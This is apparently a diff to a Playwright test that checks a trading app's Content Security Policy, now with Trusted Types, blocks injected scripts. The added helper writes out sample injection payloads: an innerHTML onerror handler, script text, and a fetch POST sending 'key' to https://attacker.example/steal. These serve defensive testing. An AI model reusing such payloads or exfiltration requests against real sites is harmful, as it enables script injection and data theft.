@@ -2,8 +2,8 @@
 // run without one violation, and stops what an injected script would do: run inline code, call an
 // inline handler, style markup inline, send data to another host.
 // - the production build as `vite preview` serves it (the other specs' server): the header (with
-//   frame-ancestors) and the built page's <meta>, then the demo desk's trade flow (identity, test
-//   funds, channel, quote, fill, Risk's uPlot chart, History & audit).
+//   frame-ancestors) and the built page's <meta>, Trusted Types in both, then the demo desk's trade
+//   flow (identity, test funds, channel, quote, fill, Risk's uPlot chart, History & audit).
 // - the dev server as `npm start` runs it (HMR on, so the React refresh preamble, the page's one
 //   inline script, is there; its env from the stack as start.ts passes it): the header with the
 //   server's nonce, the preamble run under it, identity and the channels screen. Its page is on
@@ -64,6 +64,67 @@ const COMMON = {
   'form-action': ["'none'"],
 }
 
+/** Trusted Types, in a build's policy only (app/csp.ts: Vite's dev overlay writes innerHTML). */
+const TRUSTED_TYPES = { 'require-trusted-types-for': ["'script'"], 'trusted-types': ["'none'"] }
+
+/**
+ * What an injected script would try under a build's policy, with Trusted Types: each sink that
+ * takes markup or code refuses a string (throws), so nothing is parsed; what is left (a script
+ * element's child text, a style attribute, a request to another host) the policy stops and reports.
+ */
+async function expectInjectionBlockedWithTrustedTypes(page: Page, policies: number): Promise<void> {
+  await page.evaluate(() => {
+    (window as unknown as { __cspViolations: unknown[] }).__cspViolations = []
+  })
+  const outcome = await page.evaluate(async () => {
+    const w = window as unknown as { __injected?: string[] }
+    w.__injected = []
+    const thrown: string[] = []
+    const attempt = (sink: string, f: () => unknown) => {
+      try {
+        f()
+      } catch (e) {
+        thrown.push(`${sink}: ${(e as Error).name}`)
+      }
+    }
+    const script = document.createElement('script')
+    attempt('script text', () => (script.textContent = 'window.__injected.push("script text")'))
+    const box = document.createElement('div')
+    attempt('innerHTML', () => (box.innerHTML = '<img src="/csp-probe-missing.png" onerror="window.__injected.push(\'markup\')">'))
+    const img = document.createElement('img')
+    attempt('on* attribute', () => img.setAttribute('onerror', 'window.__injected.push("handler")'))
+    attempt('DOMParser', () => new DOMParser().parseFromString('<p>x</p>', 'text/html'))
+    // Text put into a <script> as a node, not through a sink: checked when the script would run.
+    const child = document.createElement('script')
+    child.append(document.createTextNode('window.__injected.push("script child text")'))
+    document.body.append(child)
+    const styled = document.createElement('p')
+    styled.textContent = 'x'
+    styled.setAttribute('style', 'color: rgb(255, 0, 0)')
+    document.body.append(styled)
+    let sent = 'sent'
+    try {
+      await fetch('https://attacker.example/steal', { method: 'POST', body: 'key', mode: 'no-cors' })
+    } catch {
+      sent = 'refused'
+    }
+    await new Promise((r) => setTimeout(r, 500))
+    const color = getComputedStyle(styled).color
+    child.remove()
+    styled.remove()
+    return { ran: w.__injected, thrown, color, sent }
+  })
+  expect(outcome.ran, 'injected code that ran').toEqual([])
+  expect(outcome.thrown, 'sinks that refused a string').toEqual(['script text: TypeError', 'innerHTML: TypeError', 'on* attribute: TypeError', 'DOMParser: TypeError'])
+  expect(outcome.color, 'an inline style attribute applied').not.toBe('rgb(255, 0, 0)')
+  expect(outcome.sent).toBe('refused')
+  // Each policy reports each: the four sinks and the script's child text (Trusted Types), the style, the request.
+  const expected = { 'require-trusted-types-for': 5, 'style-src-attr': 1, 'connect-src': 1 }
+  await expect.poll(async () => (await violations(page)).map((v) => v.directive).sort(), { timeout: 5_000 })
+    .toEqual(Object.entries(expected).flatMap(([d, n]) => Array<string>(n * policies).fill(d)).sort())
+  expect((await violations(page)).find((v) => v.directive === 'connect-src')?.blocked).toMatch(/^https:\/\/attacker\.example/)
+}
+
 /**
  * What an injected script would try, each of which the policy must stop and report: an inline
  * <script>, an inline event handler, a style="" attribute in markup, a request to another host.
@@ -117,11 +178,11 @@ test('production build: the policy is sent and in the page, a demo desk trade ru
 
     // The header: the whole policy, frame-ancestors with it (a header alone can carry it).
     const header = directives(res!.headers()['content-security-policy'])
-    expect(header).toEqual({ ...COMMON, 'script-src': ["'self'"], 'style-src': ["'self'"], 'frame-ancestors': ["'none'"] })
+    expect(header).toEqual({ ...COMMON, 'script-src': ["'self'"], 'style-src': ["'self'"], 'frame-ancestors': ["'none'"], ...TRUSTED_TYPES })
     // The built page's own copy (for a static host that sends no header): the same, less frame-ancestors.
     const meta = page.locator('meta[http-equiv="Content-Security-Policy"]')
     await expect(meta).toHaveCount(1)
-    expect(directives(await meta.getAttribute('content'))).toEqual({ ...COMMON, 'script-src': ["'self'"], 'style-src': ["'self'"] })
+    expect(directives(await meta.getAttribute('content'))).toEqual({ ...COMMON, 'script-src': ["'self'"], 'style-src': ["'self'"], ...TRUSTED_TYPES })
 
     await createIdentity(page)
     await expect(page.getByRole('button', { name: 'New channel' })).toBeVisible()
@@ -138,7 +199,7 @@ test('production build: the policy is sent and in the page, a demo desk trade ru
     expect(cspConsole, 'console messages about the policy').toEqual([])
 
     // Both policies stop it, each on its own: the header's and the <meta>'s.
-    await expectInjectionBlocked(page, 2)
+    await expectInjectionBlockedWithTrustedTypes(page, 2)
     await trader.context.close()
   } catch (e) {
     console.log(`[desk log]\n${demo.tail(60)}`)
